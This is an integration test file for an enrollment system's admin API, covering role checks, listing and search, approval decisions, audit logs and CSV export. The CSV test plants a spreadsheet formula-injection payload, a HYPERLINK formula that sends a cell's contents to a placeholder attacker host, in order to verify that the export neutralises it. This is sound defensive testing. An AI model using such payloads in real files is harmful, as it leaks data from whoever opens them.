import { Timestamp } from 'firebase-admin/firestore';
import { beforeAll, beforeEach, describe, expect, it } from 'vitest';
import {
  adminEnrollmentListResponseSchema,
  adminEnrollmentMessages,
  enrollmentDecisionResponseSchema,
} from '../src/contracts/admin-enrollment';
import { auditListResponseSchema } from '../src/contracts/audit';
import { authMessages } from '../src/contracts/auth-messages';
import { contactCreatedResponseSchema } from '../src/contracts/contact';
import {
  enrollmentCreatedResponseSchema,
  enrollmentListResponseSchema,
  enrollmentMessages,
  enrollmentPayloadSchema,
} from '../src/contracts/enrollment';
import { enrollmentIdFor } from '../src/enrollments/enrollment-id';
import { newStoredEnrollment } from '../src/enrollments/stored-enrollment';
import { bearer, resetAuth, signUp, type Session } from './support/auth-emulator';
import {
  countDocuments,
  listDocuments,
  resetFirestore,
  testDb,
} from './support/firestore-fixtures';
import { api, waitForHealthyApi } from './support/stack';
import {
  contactForm,
  enrollmentForm,
  newKey,
  postContact,
  postEnrollment,
  signUpAdmin,
} from './support/submissions';

// The office's review of enrollments and the audit trail, over HTTP through Hosting:
// GET /api/admin/enrollments(.csv), PUT /api/admin/enrollments/:id and GET /api/admin/audit.

const ADMIN_EMAIL = 'office@example.com';
let asha: Session;
let ravi: Session;
let admin: Session;

beforeAll(waitForHealthyApi);

beforeEach(async () => {
  await Promise.all([resetAuth(), resetFirestore()]);
  [asha, ravi, admin] = await Promise.all([
    signUp('asha@example.com', 'Lotus-Kick-88'),
    signUp('ravi@example.com', 'Lotus-Kick-88'),
    signUpAdmin(ADMIN_EMAIL),
  ]);
});

/** An enrollment sent by `session` through the API, as the form sends it. */
async function enroll(session: Session, overrides: Record<string, unknown> = {}) {
  const response = await postEnrollment(session.idToken, enrollmentForm(overrides));
  expect(response.status).toBe(201);
  return enrollmentCreatedResponseSchema.parse(await response.json()).data;
}

/**
 * An enrollment written straight into Firestore, created `minutesAgo` before now: the tests of
 * order and paging need distinct, known creation times (and more than the 5-per-10-minutes limit).
 */
async function storeEnrollment(
  session: Session,
  minutesAgo: number,
  overrides: Record<string, unknown> = {},
): Promise<string> {
  const key = newKey();
  const id = enrollmentIdFor(session.uid, key);
  const stored = newStoredEnrollment({
    uid: session.uid,
    idempotencyKey: key,
    referenceNumber: `MTA-2026-T${String(minutesAgo).padStart(5, '0')}`,
    payload: enrollmentPayloadSchema.parse(enrollmentForm()),
    requestFingerprint: 'f'.repeat(64),
    now: Date.now() - minutesAgo * 60_000,
  });
  await testDb()
    .collection('enrollments')
    .doc(id)
    .set({ ...stored, ...overrides });
  return id;
}

const get = (path: string, session?: Session) =>
  api(path, { headers: session ? bearer(session.idToken) : {} });

const decide = (session: Session | undefined, id: string, body: unknown) =>
  api(`/api/admin/enrollments/${encodeURIComponent(id)}`, {
    method: 'PUT',
    headers: { 'content-type': 'application/json', ...(session ? bearer(session.idToken) : {}) },
    body: JSON.stringify(body),
  });

async function listAsAdmin(query = '') {
  const response = await get(`/api/admin/enrollments${query}`, admin);
  expect(response.status).toBe(200);
  expect(response.headers.get('cache-control')).toBe('no-store');
  return adminEnrollmentListResponseSchema.parse(await response.json());
}

async function storedEnrollment(id: string) {
  return (await listDocuments('enrollments')).find((document) => document.id === id)?.data;
}

describe('who may use the admin enrollment routes', () => {
  const ROUTES: Array<[method: 'GET' | 'PUT', path: string]> = [
    ['GET', '/api/admin/enrollments'],
    ['GET', '/api/admin/enrollments.csv'],
    ['PUT', '/api/admin/enrollments/:id'],
    ['GET', '/api/admin/audit'],
  ];
  const call = (method: string, path: string, session?: Session) =>
    api(path, {
      method,
      headers: { 'content-type': 'application/json', ...(session ? bearer(session.idToken) : {}) },
      body: method === 'PUT' ? JSON.stringify({ status: 'approved', note: 'ok' }) : undefined,
    });

  it.each(ROUTES)('%s %s answers a signed-out visitor with 401', async (method, path) => {
    const id = await storeEnrollment(asha, 1);
    const response = await call(method, path.replace(':id', id));
    expect(response.status).toBe(401);
    expect(await response.json()).toEqual({
      success: false,
      code: 'auth/not-signed-in',
      message: authMessages.tokenMissing,
    });
    expect((await storedEnrollment(id))?.status).toBe('pending');
    expect(await countDocuments('auditLog')).toBe(0);
  });

  it.each(ROUTES)('%s %s answers a member with 403, even for their own', async (method, path) => {
    const id = await storeEnrollment(asha, 1);
    const response = await call(method, path.replace(':id', id), asha);
    expect(response.status).toBe(403);
    expect(await response.json()).toMatchObject({ success: false, code: 'auth/forbidden' });
    expect((await storedEnrollment(id))?.status).toBe('pending');
    expect(await countDocuments('auditLog')).toBe(0);
  });

  it.each(ROUTES)('%s %s answers an admin with 200', async (method, path) => {
    const id = await storeEnrollment(asha, 1);
    const response = await call(method, path.replace(':id', id), admin);
    expect(response.status).toBe(200);
    expect(response.headers.get('cache-control')).toBe('no-store');
  });
});

describe('GET /api/admin/enrollments', () => {
  it('lists every member’s enrollments newest first, with who sent them', async () => {
    const older = await storeEnrollment(asha, 30);
    const newer = await storeEnrollment(ravi, 10);
    const newest = await storeEnrollment(asha, 5);
    const list = await listAsAdmin();
    expect(list).toMatchObject({ success: true, count: 3, nextBefore: null });
    expect(list.data.map((row) => row.id)).toEqual([newest, newer, older]);
    expect(list.data[1]).toMatchObject({
      uid: ravi.uid,
      fullName: 'Asha Patil',
      status: 'pending',
      reviewNote: '',
      reviewedAt: null,
      updatedBy: null,
    });
    expect(list.data[0]).not.toHaveProperty('idempotencyKey');
  });

  it('filters by status and program', async () => {
    const approvedTeen = await storeEnrollment(asha, 3, { status: 'approved' });
    const approvedAdult = await storeEnrollment(ravi, 2, { status: 'approved', program: 'adults' });
    await storeEnrollment(asha, 1, { program: 'adults' });
    const ids = async (query: string) => (await listAsAdmin(query)).data.map((row) => row.id);
    expect(await ids('?status=approved')).toEqual([approvedAdult, approvedTeen]);
    expect(await ids('?status=approved&program=adults')).toEqual([approvedAdult]);
    expect(await ids('?status=rejected')).toEqual([]);
  });

  it('searches name, email and reference number in any case', async () => {
    const priya = await storeEnrollment(asha, 3, {
      fullName: 'Priya Deshmukh',
      email: 'priya@example.com',
      referenceNumber: 'MTA-2026-PPPPPP',
    });
    const kiran = await storeEnrollment(ravi, 2, {
      fullName: 'Kiran Joshi',
      email: 'kiran.j@example.com',
      referenceNumber: 'MTA-2026-KKKKKK',
    });
    const ids = async (q: string) =>
      (await listAsAdmin(`?q=${encodeURIComponent(q)}`)).data.map((row) => row.id);
    expect(await ids('deshMUKH')).toEqual([priya]);
    expect(await ids('kiran.j@')).toEqual([kiran]);
    expect(await ids('mta-2026-kkk')).toEqual([kiran]);
    expect(await ids('example.com')).toEqual([kiran, priya]);
    expect(await ids('nobody')).toEqual([]);
  });

  it('pages newest first with `before` = the last row’s createdAt', async () => {
    const ids: string[] = [];
    for (let minutes = 1; minutes <= 5; minutes++) ids.push(await storeEnrollment(asha, minutes));
    const first = await listAsAdmin('?limit=2');
    expect(first.data.map((row) => row.id)).toEqual(ids.slice(0, 2));
    expect(first.nextBefore).toBe(first.data[1]?.createdAt);

    const second = await listAsAdmin(`?limit=2&before=${first.nextBefore}`);
    expect(second.data.map((row) => row.id)).toEqual(ids.slice(2, 4));
    const last = await listAsAdmin(`?limit=2&before=${second.nextBefore}`);
    expect(last.data.map((row) => row.id)).toEqual(ids.slice(4));
    expect(last.nextBefore).toBeNull();
  });

  it.each([
    ['status=archived', 'status'],
    ['program=karate', 'program'],
    ['limit=0', 'limit'],
    ['limit=101', 'limit'],
    ['limit=ten', 'limit'],
    ['before=yesterday', 'before'],
    ['status=pending&status=approved', 'status'],
    [`q=${'x'.repeat(101)}`, 'q'],
  ])('refuses ?%s with 400 naming %s', async (query, field) => {
    const response = await get(`/api/admin/enrollments?${query}`, admin);
    expect(response.status).toBe(400);
    expect(await response.json()).toMatchObject({
      success: false,
      code: 'validation/invalid',
      errors: { [field]: expect.any(String) },
    });
  });
});

describe('PUT /api/admin/enrollments/:id', () => {
  it('approves with a note, records who and when, and appends one audit entry', async () => {
    const created = await enroll(asha);
    const sentAt = Date.now();
    const response = await decide(admin, created.id, {
      status: 'approved',
      note: '  Classes start Monday at 6 pm.  ',
    });
    expect(response.status).toBe(200);
    expect(response.headers.get('cache-control')).toBe('no-store');
    const body = enrollmentDecisionResponseSchema.parse(await response.json());
    expect(body).toMatchObject({
      success: true,
      message: adminEnrollmentMessages.approved,
      data: {
        id: created.id,
        status: 'approved',
        reviewNote: 'Classes start Monday at 6 pm.',
        updatedBy: admin.uid,
      },
    });
    expect(Date.parse(body.data.reviewedAt ?? '')).toBeGreaterThanOrEqual(sentAt - 1_000);

    const stored = await storedEnrollment(created.id);
    expect(stored).toMatchObject({
      status: 'approved',
      reviewNote: 'Classes start Monday at 6 pm.',
      updatedBy: admin.uid,
      uid: asha.uid,
      fullName: 'Asha Patil',
    });
    expect(stored?.reviewedAt).toBeInstanceOf(Timestamp);
    expect((stored?.updatedAt as Timestamp).toMillis()).toBe(
      (stored?.reviewedAt as Timestamp).toMillis(),
    );

    const audit = await listDocuments('auditLog');
    expect(audit).toHaveLength(1);
    expect(audit[0]?.data).toEqual({
      action: 'enrollment.approve',
      actorUid: admin.uid,
      actorEmail: ADMIN_EMAIL,
      targetCollection: 'enrollments',
      targetId: created.id,
      statusBefore: 'pending',
      statusAfter: 'approved',
      at: stored?.updatedAt,
    });
  });

  it('lets the member see the new status and the note in their own list and detail', async () => {
    const created = await enroll(asha);
    await decide(admin, created.id, { status: 'rejected', note: 'The teens batch is full.' });
    const list = enrollmentListResponseSchema.parse(
      await (await get('/api/enrollments', asha)).json(),
    );
    expect(list.data).toEqual([
      expect.objectContaining({
        id: created.id,
        status: 'rejected',
        reviewNote: 'The teens batch is full.',
        reviewedAt: expect.any(String),
      }),
    ]);
    expect(list.data[0]).not.toHaveProperty('updatedBy');
    const detail = await get(`/api/enrollments/${created.id}`, asha);
    expect(await detail.json()).toMatchObject({
      data: { status: 'rejected', reviewNote: 'The teens batch is full.' },
    });
  });

  it('decides again, replacing the note (an absent note stores "")', async () => {
    const created = await enroll(asha);
    await decide(admin, created.id, { status: 'rejected', note: 'Missing papers' });
    const again = await decide(admin, created.id, { status: 'approved' });
    expect(again.status).toBe(200);
    expect(await storedEnrollment(created.id)).toMatchObject({
      status: 'approved',
      reviewNote: '',
    });
    const audit = enrollmentAudit(await listDocuments('auditLog'));
    expect(audit).toEqual([
      ['enrollment.reject', 'pending', 'rejected'],
      ['enrollment.approve', 'rejected', 'approved'],
    ]);
  });

  it.each([
    [{}],
    [{ status: 'pending' }],
    [{ status: 'APPROVED' }],
    [{ status: 'approved', note: 'x'.repeat(1001) }],
    [{ status: 'approved', note: 42 }],
    [{ status: 'approved', reviewedAt: '2020-01-01T00:00:00.000Z' }],
    [{ status: 'approved', uid: 'someone-else' }],
    [['approved']],
  ])('refuses %j with 400 and field errors, changing nothing', async (body) => {
    const created = await enroll(asha);
    const before = await storedEnrollment(created.id);
    const response = await decide(admin, created.id, body);
    expect(response.status).toBe(400);
    expect(await response.json()).toMatchObject({ success: false, errors: expect.any(Object) });
    expect(await storedEnrollment(created.id)).toEqual(before);
    expect(await countDocuments('auditLog')).toBe(0);
  });

  it.each(['unknown-id', 'A'.repeat(43), '__reserved__', 'x'.repeat(2000)])(
    'answers an unknown id (%s) with 404 and writes no audit entry',
    async (id) => {
      const response = await decide(admin, id, { status: 'approved' });
      expect(response.status).toBe(404);
      expect(await response.json()).toEqual({
        success: false,
        code: 'enrollment/not-found',
        message: enrollmentMessages.enrollmentNotFound,
      });
      expect(await countDocuments('auditLog')).toBe(0);
      expect(await countDocuments('enrollments')).toBe(0);
    },
  );
});

describe('a member never sees another member’s enrollment', () => {
  it('not through the member routes, nor through any admin route', async () => {
    const ashas = await enroll(asha, { fullName: 'Asha Patil' });
    await decide(admin, ashas.id, { status: 'approved', note: 'Private note for Asha' });
    await enroll(ravi, { fullName: 'Ravi Kulkarni' });

    const raviList = enrollmentListResponseSchema.parse(
      await (await get('/api/enrollments', ravi)).json(),
    );
    expect(raviList.data.map((row) => row.id)).not.toContain(ashas.id);
    expect(JSON.stringify(raviList)).not.toContain('Private note for Asha');
    expect((await get(`/api/enrollments/${ashas.id}`, ravi)).status).toBe(404);

    for (const path of [
      '/api/admin/enrollments',
      `/api/admin/enrollments?q=${encodeURIComponent('Asha')}`,
      '/api/admin/enrollments.csv',
      '/api/admin/audit',
    ]) {
      const response = await get(path, ravi);
      expect(response.status, path).toBe(403);
      expect(await response.text(), path).not.toContain('Asha');
    }
    const changed = await decide(ravi, ashas.id, { status: 'rejected' });
    expect(changed.status).toBe(403);
    expect(await storedEnrollment(ashas.id)).toMatchObject({ status: 'approved' });
  });
});

describe('GET /api/admin/enrollments.csv', () => {
  it('downloads the filtered list as CSV with formula cells neutralised', async () => {
    const attack = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")';
    const hostile = await enroll(asha, { fullName: attack });
    await enroll(ravi, { fullName: 'Ravi Kulkarni' });
    await decide(admin, hostile.id, { status: 'approved', note: '@SUM(1+1)' });

    const response = await get('/api/admin/enrollments.csv?status=approved', admin);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    expect(response.headers.get('content-disposition')).toMatch(
      /^attachment; filename="enrollments-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(response.headers.get('cache-control')).toBe('no-store');
    const csv = await response.text();
    const lines = csv.replace(/^\uFEFF/, '').split('\r\n');
    expect(lines[0]?.startsWith('Reference,Submitted (IST),Status,Program,Full name')).toBe(true);
    expect(lines.filter((line) => line !== '')).toHaveLength(2); // header + the approved one
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click me"")"`);
    expect(csv).toContain(",'@SUM(1+1),");
    expect(csv).not.toContain('Ravi Kulkarni');
    // No cell starts a formula: every field begins with a quote, apostrophe or safe character.
    expect(csv).not.toMatch(/(^|,)"?[=+\-@]/m);
  });

  it('searches like the list and answers an empty list with the header alone', async () => {
    await enroll(asha, { fullName: 'Priya Deshmukh' });
    const found = await (await get('/api/admin/enrollments.csv?q=deshmukh', admin)).text();
    expect(found).toContain('Priya Deshmukh');
    const none = await get('/api/admin/enrollments.csv?q=nobody', admin);
    expect(none.status).toBe(200);
    expect((await none.text()).replace(/^\uFEFF/, '').split('\r\n')).toHaveLength(2);
  });

  it('records each download in the audit log: who, when, how many (the file holds medical notes)', async () => {
    await enroll(asha);
    await enroll(ravi);
    expect((await get('/api/admin/enrollments.csv', admin)).status).toBe(200);
    const exports = (await listDocuments('auditLog'))
      .map(({ data }) => data)
      .filter((data) => data.action === 'enrollment.export');
    expect(exports).toEqual([
      expect.objectContaining({
        actorUid: admin.uid,
        targetCollection: 'enrollments',
        targetId: 'csv',
        statusAfter: '2 exported',
      }),
    ]);
  });

  it('records a list page that shows medical notes, naming the enrollments whose notes it held', async () => {
    const withNote = await enroll(asha, { medicalConditions: 'Mild asthma; carries an inhaler' });
    await enroll(ravi);
    expect((await get('/api/admin/enrollments', admin)).status).toBe(200);
    const reads = (await listDocuments('auditLog'))
      .map(({ data }) => data)
      .filter((data) => data.action === 'enrollment.read-medical');
    expect(reads).toEqual([
      expect.objectContaining({
        actorUid: admin.uid,
        targetId: withNote.id,
        statusAfter: '1 with medical notes',
      }),
    ]);
  });

  it('refuses a bad filter with 400 in the JSON error shape', async () => {
    const response = await get('/api/admin/enrollments.csv?program=karate', admin);
    expect(response.status).toBe(400);
    expect(response.headers.get('content-type')).toMatch(/^application\/json/);
    expect(await response.json()).toMatchObject({ errors: { program: expect.any(String) } });
  });
});

/** [action, before, after] of the enrollment entries, oldest first. */
function enrollmentAudit(entries: Array<{ data: Record<string, unknown> }>) {
  return entries
    .map(({ data }) => data)
    .filter((data) => data.targetCollection === 'enrollments')
    .sort((a, b) => (a.at as Timestamp).toMillis() - (b.at as Timestamp).toMillis())
    .map((data) => [data.action, data.statusBefore, data.statusAfter]);
}

describe('GET /api/admin/audit', () => {
  it('lists every admin write newest first, enquiry changes included', async () => {
    const enrollment = await enroll(asha);
    await decide(admin, enrollment.id, { status: 'approved' });
    const sent = await postContact(asha.idToken, contactForm());
    const contactId = contactCreatedResponseSchema.parse(await sent.json()).data.id;
    const put = await api(`/api/contact/${contactId}`, {
      method: 'PUT',
      headers: { ...bearer(admin.idToken), 'content-type': 'application/json' },
      body: JSON.stringify({ status: 'closed' }),
    });
    expect(put.status).toBe(200);
    expect((await listDocuments('contacts'))[0]?.data).toMatchObject({
      status: 'closed',
      updatedBy: admin.uid,
    });
    const removed = await api(`/api/contact/${contactId}`, {
      method: 'DELETE',
      headers: bearer(admin.idToken),
    });
    expect(removed.status).toBe(200);

    const response = await get('/api/admin/audit', admin);
    expect(response.status).toBe(200);
    expect(response.headers.get('cache-control')).toBe('no-store');
    const body = auditListResponseSchema.parse(await response.json());
    expect(body).toMatchObject({ success: true, count: 3, nextBefore: null });
    expect(body.data.map((entry) => [entry.action, entry.statusBefore, entry.statusAfter])).toEqual(
      [
        ['contact.delete', 'closed', null],
        ['contact.status', 'new', 'closed'],
        ['enrollment.approve', 'pending', 'approved'],
      ],
    );
    expect(body.data[2]).toMatchObject({
      actorUid: admin.uid,
      actorEmail: ADMIN_EMAIL,
      targetCollection: 'enrollments',
      targetId: enrollment.id,
    });

    const firstPage = auditListResponseSchema.parse(
      await (await get('/api/admin/audit?limit=2', admin)).json(),
    );
    expect(firstPage.count).toBe(2);
    const rest = auditListResponseSchema.parse(
      await (await get(`/api/admin/audit?limit=2&before=${firstPage.nextBefore}`, admin)).json(),
    );
    expect(rest.data.map((entry) => entry.action)).toEqual(['enrollment.approve']);
    expect(rest.nextBefore).toBeNull();
  });

  it('refuses ?limit=500 with 400', async () => {
    const response = await get('/api/admin/audit?limit=500', admin);
    expect(response.status).toBe(400);
    expect(await response.json()).toMatchObject({ errors: { limit: expect.any(String) } });
  });
});
